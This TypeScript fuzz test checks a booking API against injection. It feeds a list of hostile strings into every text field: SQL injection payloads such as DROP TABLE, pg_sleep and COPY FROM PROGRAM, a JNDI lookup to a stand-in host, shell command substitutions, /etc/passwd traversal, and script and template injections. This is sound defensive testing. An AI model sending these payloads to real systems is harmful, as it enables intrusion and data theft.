import { randomUUID } from 'node:crypto';
import fc from 'fast-check';
import { BOOKING_ID, FLIGHT_ID, PASSENGER_ID } from '../../src/api/openapi/examples';
import { openStorefront, type Storefront } from '../support/api';
import type { Booking } from '../../src/domain/booking';
import type { Client } from '../api/client';
import { signed, signedByStripe } from '../api/signed-events';
import { OPERATIONS, sampleOf, SIGNED, type Operation, type Sample } from './operations';
import { stringPlacesOf, type StringPlace } from './string-places';

/**
 * Whatever text stands wherever a client may write one: PostgreSQL takes it for text, no line of
 * the log has any of it, and the answer is none of the inside.
 */

const SEED = Number(process.env.SEED ?? Date.now() % 1_000_000);

/** Texts for each place. */
const TEXTS = Number(process.env.TEXTS ?? 6);

/** Stands in every text; nobody else writes it. */
const WORD = 'zzplantedzz';

const FRAGMENTS = [
  // What ends a text of SQL, and goes on: by writing, by being true, by taking long.
  ...["' OR '1'='1", "'; INSERT INTO canary VALUES (1); --", "'); DROP TABLE canary; --"],
  ...["\\'; INSERT INTO canary VALUES (1); --", '"; INSERT INTO canary VALUES (1); --'],
  ...['$$; INSERT INTO canary VALUES (1); $$', "' UNION SELECT NULL, current_user --"],
  ...["' || pg_sleep(30) || '", "1; COPY canary FROM PROGRAM 'true'", "E'\\047"],
  // What libraries put values in the place of, and what LIKE, arrays and ranges mean.
  ...['?', '??', ':id', '$1', '%s%n%d', '%_%', '{a,b}', '[,)', 'NaN', 'infinity', 'null'],
  // What ends a line of a log, or draws on a terminal.
  ...['\r\n{"level":"error","message":"x"}', '\n', '\r', '\u001b[2J\u001b[31m', '\u009b31m'],
  ...['\u0000', '\u0008', '\u2028', '\u2029', '\u0085', '\u202e', '\ufeff', '\ud800'],
  // What templates, browsers, shells and other parsers act on.
  ...['<script>alert(1)</script>', '{{7*7}}', '${7*7}', '${jndi:ldap://x.example/a}', '`id`'],
  ...['$(id)', '| id', '../../../etc/passwd', '%2e%2e%2f', 'file:///etc/passwd', '__proto__'],
];

const hostile = fc
  .tuple(
    fc.constantFrom('', 'a', '1', randomUUID()),
    fc.uniqueArray(fc.constantFrom(...FRAGMENTS), { minLength: 1, maxLength: 2 }),
    fc.boolean(),
  )
  .map(([before, fragments, isFirst]) =>
    isFirst ? [WORD, before, ...fragments].join('') : [before, ...fragments, WORD].join(''),
  );

let store: Storefront;
let ada: Client;
let operator: Client;
let booking: Booking;
beforeAll(async () => {
  store = await openStorefront();
  await store.db.raw('CREATE TABLE canary (sings int)');
  await store.db.raw('GRANT ALL ON canary TO PUBLIC');
  ada = await store.customer();
  operator = await store.operator();
  booking = (await ada.create(await store.flight())).body;
});
afterAll(() => store.close());

const places = OPERATIONS.flatMap((operation) =>
  stringPlacesOf(operation).map((place): [string, Operation, StringPlace] => [
    `${operation.operationId} ${place.name}`,
    operation,
    place,
  ]),
);

async function send(operation: Operation, place: StringPlace, sample: Sample) {
  const client = operation.scopes.includes('bookings') ? ada : operator;
  const { method, path, headers, body } = sample;
  if (!SIGNED.includes(operation) || place.isHeader)
    return client.send(method, path, { headers, body });
  const seal = operation.path.endsWith('stripe') ? signedByStripe : signed;
  return store.anyone.send(method, path, seal(body));
}

let asked = 0;
const statuses: Record<number, number> = {};

test('there are many places for text, and each operation with a parameter has one', () => {
  expect(places.length).toBeGreaterThan(80);
});

test.each(places)('%s', async (_, operation, place) => {
  const [passenger] = booking.passengers;
  const sample = sampleOf(operation, {
    [BOOKING_ID]: booking.id,
    [FLIGHT_ID]: booking.flight.id,
    [PASSENGER_ID]: passenger?.id ?? '',
  });
  const unread = store.log.length;
  for (const text of fc.sample(hostile, { seed: SEED, numRuns: TEXTS })) {
    const answer = await send(operation, place, place.write(sample, text));
    asked += 1;
    statuses[answer.status] = (statuses[answer.status] ?? 0) + 1;
    // The client has held the answer against its schema: there is no 500, and nothing of SQL.
    expect({ text, ok: answer.status < 500 }).toEqual({ text, ok: true });
    expect(answer.text).not.toMatch(/syntax error at|SQLSTATE|node_modules|\.ts:\d/);
  }
  const lines = store.log.slice(unread).map((entry) => JSON.stringify(entry));
  expect(lines.filter((line) => line.includes(WORD))).toEqual([]);
  expect(lines.filter((line) => /[\p{Cc}\u2028\u2029]/u.test(line))).toEqual([]);
});

test('nothing that was written there was run', async () => {
  console.log(`SEED=${SEED} TEXTS=${TEXTS}: ${places.length} places, ${asked} requests:`, statuses);
  expect(await store.db('canary').select()).toEqual([]);
  expect((await ada.read(booking.id)).status).toBe(200);
});

test('text that looks like SQL or a template is stored and returned as it was written', async () => {
  const texts = ["Robert'); DROP TABLE canary; --", '${7*7} {{7*7}} <b>', 'a\\"\'$1 ? :id %s'];
  const metadata = Object.fromEntries(texts.map((text, index) => [`text-${index}`, text]));
  const created = await ada.create(await store.flight(), { metadata });
  expect(created).toMatchObject({ status: 201, body: { metadata } });
  const { body } = await ada.get<Booking>(`/api/v1/bookings/${created.body.id}`);
  expect(body.metadata).toEqual(metadata);
  const [reason = ''] = texts;
  await ada.cancel(created.body, { reason });
  const { body: events } = await ada.events(created.body);
  expect(events.data.at(-1)).toMatchObject({ type: 'cancelled', reason });
});
